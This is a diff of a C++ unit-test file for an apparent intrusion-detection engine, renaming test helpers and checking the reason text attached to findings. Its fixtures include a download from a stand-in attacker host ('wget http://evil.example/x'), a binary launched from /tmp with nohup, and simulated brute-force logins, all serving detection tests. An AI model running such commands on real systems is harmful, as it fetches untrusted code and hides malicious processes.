@@ -15,9 +15,9 @@ using ::testing::HasSubstr;
 using ::testing::Not;
 
 /// Renders each finding's reason while it is delivered.
-class ReasonSink : public FindingSink {
+class ReasonTextSink : public FindingSink {
  public:
-  explicit ReasonSink(const PipelineContent& content) : content_(content) {}
+  explicit ReasonTextSink(const PipelineContent& content) : content_(content) {}
   void on_finding(const Finding& f) override {
     reasons[content_.alert(f.alert).name] = reason_text(content_, f);
     EXPECT_LE(reasons[content_.alert(f.alert).name].size(), kMaxReasonBytes);
@@ -28,15 +28,15 @@ class ReasonSink : public FindingSink {
   const PipelineContent& content_;
 };
 
-struct Reasons : Bench {
-  Reasons() {
+struct ReasonBench : Bench {
+  ReasonBench() {
     add_own_rules(builder);
     builder.indicators().add(*read_value("evil.example"), {.source = "feed of the day", .confidence = 70});
     builder.indicators().add(*read_value("203.0.113.66"), {.source = "list", .confidence = 55});
   }
   std::map<std::string, std::string> of(const std::vector<Observation>& observations, Duration silence = Duration()) {
     start(1, silence);
-    ReasonSink reasons(*content);
+    ReasonTextSink reasons(*content);
     core->ingest(DeviceMessage{DeviceId(0), 0, kStart, Encoding::kG2FlatBuffers, {}, observations}, reasons);
     core->advance(kStart + Duration::hours(2), reasons);
     return reasons.reasons;
@@ -44,7 +44,7 @@ struct Reasons : Bench {
 };
 
 TEST(Reason, of_a_rule_names_it_and_the_tests_that_held) {
-  Reasons r;
+  ReasonBench r;
   const auto reasons = r.of({exec(r.texts, kStart, "nohup /tmp/k -q")});
   EXPECT_THAT(reasons.at("Detected suspicious use of the nohup command"),
               AllOf(HasSubstr("product rule 'nohup on a file in a temporary directory'"),
@@ -53,12 +53,12 @@ TEST(Reason, of_a_rule_names_it_and_the_tests_that_held) {
 }
 
 TEST(Reason, of_a_verdict_from_the_cache_is_the_same) {
-  Reasons r;
+  ReasonBench r;
   const Observation o = exec(r.texts, kStart, "nohup /tmp/k -q");
   const Observation other = exec(r.texts, kStart, "ls");
   r.start(2);
-  ReasonSink first(*r.content);
-  ReasonSink second(*r.content);
+  ReasonTextSink first(*r.content);
+  ReasonTextSink second(*r.content);
   r.core->ingest(DeviceMessage{DeviceId(0), 0, kStart, Encoding::kG2FlatBuffers, {}, {&o, 1}}, first);
   r.core->advance(kStart + Duration::hours(1), first);
   const std::vector<Observation> later{other, o};
@@ -69,7 +69,7 @@ TEST(Reason, of_a_verdict_from_the_cache_is_the_same) {
 }
 
 TEST(Reason, of_a_correlation_counts_its_members) {
-  Reasons r;
+  ReasonBench r;
   std::vector<Observation> failures;
   for (int i = 0; i < 30; ++i) failures.push_back(login(r.texts, kStart, LoginOperation::kLoginFailed, "203.0.113.1"));
   EXPECT_THAT(r.of(failures).at("sim.bruteforce_failed"),
@@ -78,7 +78,7 @@ TEST(Reason, of_a_correlation_counts_its_members) {
 }
 
 TEST(Reason, of_an_indicator_names_its_source) {
-  Reasons r;
+  ReasonBench r;
   const auto reasons = r.of({flow(kStart, "203.0.113.66", 443), at(kStart, DnsRecord{r.texts.intern("a.evil.example"), false}),
                              exec(r.texts, kStart, "wget http://evil.example/x -O /opt/x")});
   EXPECT_EQ(reasons.at("Suspicious IP address communication"),
@@ -90,7 +90,7 @@ TEST(Reason, of_an_indicator_names_its_source) {
 }
 
 TEST(Reason, of_a_model_has_its_value_and_its_limit) {
-  Reasons r;
+  ReasonBench r;
   const auto reasons = r.of({exec(r.texts, kStart + Duration::minutes(10), "ls")}, Duration::minutes(10));
   EXPECT_EQ(reasons.at("sim.clock_jump"), "picket model 'clock jump': 600 s, limit 300 s");
   EXPECT_EQ(reasons.at("sim.device_silent"), "picket model 'device silent': 1800 s, limit 1800 s");
@@ -98,12 +98,12 @@ TEST(Reason, of_a_model_has_its_value_and_its_limit) {
 
 // Points that reached the limit, and not the observations that brought them: a first sighting may bring two.
 TEST(Reason, of_first_sightings_counts_points) {
-  Reasons r;
+  ReasonBench r;
   std::vector<Observation> lines;
   for (int i = 0; i < 5; ++i)
     lines.push_back(exec(r.texts, kStart + Duration::minutes(i + 1), "/opt/tool-" + std::string(1, static_cast<char>('a' + i))));
   r.start(300);
-  ReasonSink sink(*r.content);
+  ReasonTextSink sink(*r.content);
   for (std::uint32_t i = 0; i < 5; ++i)
     r.core->ingest(DeviceMessage{DeviceId(0), i, lines[i].last_time, Encoding::kG2FlatBuffers, {}, {&lines[i], 1}}, sink);
   r.core->advance(kStart + Duration::hours(2), sink);
@@ -111,7 +111,7 @@ TEST(Reason, of_first_sightings_counts_points) {
 }
 
 TEST(Reason, of_what_is_found_or_not_names_no_quantity) {
-  Reasons r;
+  ReasonBench r;
   r.start();
   Finding finding;
   finding.rule = r.content->rule_index(Detector::kPeerLogin);
@@ -124,7 +124,7 @@ TEST(Reason, of_what_is_found_or_not_names_no_quantity) {
 }
 
 TEST(Reason, has_a_unit_for_each_quantity) {
-  Reasons r;
+  ReasonBench r;
   r.start();
   const auto of = [&](auto source) { return std::string(measured_unit(*r.content, r.content->rule_index(source))); };
   EXPECT_EQ(of(Model::kRarePeer), "points");
@@ -150,16 +150,16 @@ TEST(Reason, shortens_numbers_to_six_digits) {
 
 // A module may stay away ten minutes, however long its policy lets it be silent.
 TEST(Reason, of_a_module_that_disconnected_is_the_time_it_may_stay_away) {
-  Reasons r;
+  ReasonBench r;
   r.start(1, Duration::hours(6));
-  ReasonSink sink(*r.content);
+  ReasonTextSink sink(*r.content);
   r.core->ingest(OperationRecord{kStart + Duration::minutes(1), DeviceId(0), OperationName::kDeviceDisconnect, 0, true}, sink);
   r.core->advance(kStart + Duration::hours(1), sink);
   EXPECT_EQ(sink.reasons.at("sim.device_silent"), "picket model 'device silent': 600 s, limit 600 s");
 }
 
 TEST(Reason, stays_within_its_bound_whatever_a_rule_says) {
-  Reasons r;
+  ReasonBench r;
   r.builder.add_rule("title: '" + std::string(250, 't') +
                          "'\nid: 31111111-2222-4333-8444-555555555555\n"
                          "logsource: {product: linux, category: process_creation}\ndetection:\n  s:\n"
